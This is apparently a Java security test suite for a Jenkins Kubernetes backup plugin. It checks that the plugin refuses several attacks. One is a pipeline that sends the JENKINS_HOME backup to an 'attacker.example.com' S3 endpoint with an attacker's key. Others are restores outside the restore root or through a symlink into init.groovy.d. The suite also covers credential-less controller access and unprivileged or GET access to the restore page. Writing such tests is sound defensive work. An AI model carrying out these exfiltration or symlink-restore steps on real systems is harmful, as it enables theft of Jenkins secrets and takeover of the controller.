package io.jenkins.plugins.k8sbackup.jenkins;

import static org.assertj.core.api.Assertions.assertThat;

import com.cloudbees.plugins.credentials.CredentialsProvider;
import com.cloudbees.plugins.credentials.CredentialsScope;
import com.cloudbees.plugins.credentials.domains.Domain;
import hudson.ExtensionList;
import hudson.model.Result;
import hudson.util.Secret;
import io.jenkins.plugins.k8sbackup.jenkins.config.K8sBackupConfiguration;
import io.jenkins.plugins.k8sbackup.jenkins.config.PredefinedLocation;
import io.jenkins.plugins.k8sbackup.jenkins.home.JenkinsBackupLink;
import io.jenkins.plugins.k8sbackup.jenkins.storage.DirectoryLocation;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import jenkins.model.Jenkins;
import org.htmlunit.HttpMethod;
import org.htmlunit.Page;
import org.htmlunit.WebRequest;
import org.jenkinsci.plugins.plaincredentials.impl.StringCredentialsImpl;
import org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition;
import org.jenkinsci.plugins.workflow.cps.CpsScmFlowDefinition;
import org.jenkinsci.plugins.workflow.job.WorkflowJob;
import org.jenkinsci.plugins.workflow.job.WorkflowRun;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.jvnet.hudson.test.JenkinsRule;
import org.jvnet.hudson.test.MockAuthorizationStrategy;
import org.jvnet.hudson.test.MockFolder;
import org.jvnet.hudson.test.SingleFileSCM;
import org.jvnet.hudson.test.junit.jupiter.WithJenkins;

/**
 * The attacks of issue 13 in a real Jenkins: an SCM-loaded Pipeline under an allowed folder pattern, a job choosing
 * its own endpoint and key, restores outside the root or through a link, a step on the built-in node without
 * credentials, and the restore page without Overall/Administer. Compiled and run only with -Pjenkins (see
 * plugin/README.md); written from the real APIs, not run on this project's machines.
 */
@WithJenkins
class JenkinsSecurityTest {
    JenkinsRule j;
    K8sBackupConfiguration config;

    @TempDir
    Path tmp;
    Path vault;
    Path restores;

    @BeforeEach
    void setUp(JenkinsRule rule) throws Exception {
        j = rule;
        vault = tmp.resolve("vault");
        restores = Files.createDirectories(tmp.resolve("restores"));
        config = K8sBackupConfiguration.get();
        config.setLocations(List.of(new PredefinedLocation("vault", new DirectoryLocation(vault.toString()))));
        config.setJenkinsHomeLocation("vault");
        config.setJenkinsHomeRestoreRoot(restores.toString());
        CredentialsProvider.lookupStores(j.jenkins).iterator().next().addCredentials(Domain.global(),
                new StringCredentialsImpl(CredentialsScope.SYSTEM, "home-key", "JENKINS_HOME archive key",
                        Secret.fromString("the administrator's archive passphrase")));
        CredentialsProvider.lookupStores(j.jenkins).iterator().next().addCredentials(Domain.global(),
                new StringCredentialsImpl(CredentialsScope.GLOBAL, "attacker-key", "a key any job can use",
                        Secret.fromString("a passphrase the attacker knows")));
    }

    WorkflowJob inlineJob(MockFolder folder, String name, String script) throws Exception {
        WorkflowJob p = folder.createProject(WorkflowJob.class, name);
        p.setDefinition(new CpsFlowDefinition(script, true));
        p.save(); // the plugin reads the saved definition (config.xml)
        return p;
    }

    boolean vaultHasFiles() throws Exception {
        if (!Files.exists(vault)) {
            return false;
        }
        try (Stream<Path> files = Files.walk(vault)) {
            return files.anyMatch(Files::isRegularFile);
        }
    }

    @Test
    void aPipelineFromScmUnderAnAllowedPatternIsRefusedAndAnInlineOneRuns() throws Exception {
        config.setJenkinsBackupAllowedJobs("ops/*");
        config.setAllowJobPatterns(true);
        MockFolder ops = j.createFolder("ops");
        WorkflowJob fromScm = ops.createProject(WorkflowJob.class, "pushed");
        fromScm.setDefinition(new CpsScmFlowDefinition(new SingleFileSCM("Jenkinsfile", "jenkinsBackup()"), "Jenkinsfile"));
        fromScm.save();

        WorkflowRun refused = j.buildAndAssertStatus(Result.FAILURE, fromScm);
        j.assertLogContains("may not back up or restore JENKINS_HOME", refused);
        j.assertLogContains("its Pipeline script is not inline (definition CpsScmFlowDefinition", refused);
        assertThat(vaultHasFiles()).isFalse();

        WorkflowRun allowed = j.buildAndAssertSuccess(inlineJob(ops, "backup", "jenkinsBackup()"));
        j.assertLogContains("backing up JENKINS_HOME", allowed);

        config.setJenkinsBackupAllowedJobs("ops/* allowScm: true");
        j.buildAndAssertSuccess(fromScm);
    }

    @Test
    void aJobCannotChooseItsOwnEndpointOrKey() throws Exception {
        config.setJenkinsBackupAllowedJobs("ops/backup");
        WorkflowJob p = inlineJob(j.createFolder("ops"), "backup",
                "jenkinsBackup(storage: s3(bucket: 'exfil', endpoint: 'https://attacker.example.com'), "
                        + "encryptionCredentialsId: 'attacker-key', keyCredentialsId: 'attacker-key')");

        WorkflowRun b = j.buildAndAssertStatus(Result.FAILURE, p);

        j.assertLogContains("storage, encryptionCredentialsId, keyCredentialsId are set by an administrator, not by a job", b);
        assertThat(vaultHasFiles()).isFalse();
    }

    @Test
    void theAdministratorsSystemKeyEncryptsTheBackup() throws Exception {
        config.setJenkinsBackupAllowedJobs("ops/backup");
        config.setJenkinsHomeEncryptionCredentialsId("home-key");

        WorkflowRun b = j.buildAndAssertSuccess(inlineJob(j.createFolder("ops"), "backup", "jenkinsBackup(mode: 'full')"));

        j.assertLogContains(", encrypted", b);
        j.assertLogNotContains("the administrator's archive passphrase", b);
        try (Stream<Path> files = Files.walk(vault)) {
            assertThat(files.map(Path::toString)).anyMatch(f -> f.endsWith("home.tar.zst.enc"));
        }
    }

    @Test
    void restoresStayBelowTheRootAndNeverFollowLinks() throws Exception {
        config.setJenkinsBackupAllowedJobs("ops/restore");
        Path ref = Files.createDirectories(tmp.resolve("usr-share-jenkins-ref"));
        Files.createSymbolicLink(restores.resolve("innocent"), ref);
        MockFolder ops = j.createFolder("ops");
        WorkflowJob p = inlineJob(ops, "restore", """
                jenkinsBackup(mode: 'full')
                catchError(buildResult: 'FAILURE', stageResult: 'FAILURE') {
                  jenkinsRestore(backup: 'latest', target: '%s', preview: false, clean: true)
                }
                catchError(buildResult: 'FAILURE', stageResult: 'FAILURE') {
                  jenkinsRestore(backup: 'latest', target: 'innocent/init.groovy.d', preview: false)
                }
                jenkinsRestore(backup: 'latest', target: 'staging', preview: false)
                """.formatted(ref));

        WorkflowRun b = j.buildAndAssertStatus(Result.FAILURE, p);

        j.assertLogContains("it is outside the restore root", b);
        j.assertLogContains("innocent is a symbolic link; restores never follow links", b);
        try (Stream<Path> files = Files.walk(ref)) {
            assertThat(files.filter(Files::isRegularFile)).isEmpty();
        }
        assertThat(restores.resolve("staging/config.xml")).exists();
    }

    @Test
    void aStepOnTheBuiltInNodeWithoutCredentialsIsRefused() throws Exception {
        WorkflowJob p = j.jenkins.createProject(WorkflowJob.class, "deploy");
        p.setDefinition(new CpsFlowDefinition("""
                node('built-in') {
                  k8sBackup(storage: s3(bucket: 'backups'), includeNamespaces: ['shop'])
                }
                """, true));

        WorkflowRun b = j.buildAndAssertStatus(Result.FAILURE, p);

        j.assertLogContains("refusing to reach the cluster without credentials on the built-in node", b);
        j.assertLogContains("the controller's own kubeconfig or service account", b);

        config.setAllowControllerIdentity(true);
        WorkflowRun allowed = j.buildAndAssertStatus(Result.FAILURE, p); // no cluster here: fails further on
        j.assertLogNotContains("without credentials on the built-in node", allowed);
    }

    @Test
    void theRestorePageNeedsOverallAdministerAndPost() throws Exception {
        j.jenkins.setSecurityRealm(j.createDummySecurityRealm());
        j.jenkins.setAuthorizationStrategy(new MockAuthorizationStrategy()
                .grant(Jenkins.READ).everywhere().to("reader")
                .grant(Jenkins.ADMINISTER).everywhere().to("admin"));
        JenkinsRule.WebClient reader = j.createWebClient().login("reader");
        reader.setThrowExceptionOnFailingStatusCode(false);
        URL restore = new URL(j.getURL(), "manage/k8s-backup-jenkins-home/restore?backup=latest&target=staging&preview=false");

        Page denied = reader.getPage(new WebRequest(reader.createCrumbedUrl(
                "manage/k8s-backup-jenkins-home/restore?backup=latest&target=staging&preview=false"), HttpMethod.POST));
        assertThat(denied.getWebResponse().getStatusCode()).as("hidden or forbidden").isIn(403, 404);
        assertThat(ExtensionList.lookupSingleton(JenkinsBackupLink.class).getLastRestore()).isNull();

        JenkinsRule.WebClient admin = j.createWebClient().login("admin");
        admin.setThrowExceptionOnFailingStatusCode(false);
        assertThat(admin.getPage(restore).getWebResponse().getStatusCode()).as("@POST: no GET").isIn(404, 405);
        assertThat(ExtensionList.lookupSingleton(JenkinsBackupLink.class).getLastRestore()).isNull();
        admin.getPage(new WebRequest(admin.createCrumbedUrl(
                "manage/k8s-backup-jenkins-home/restore?backup=latest&target=staging&preview=true"), HttpMethod.POST));
        assertThat(ExtensionList.lookupSingleton(JenkinsBackupLink.class).getLastRestore()).isNotNull();
        assertThat(restores.resolve("staging")).as("a preview writes nothing").doesNotExist();
    }
}
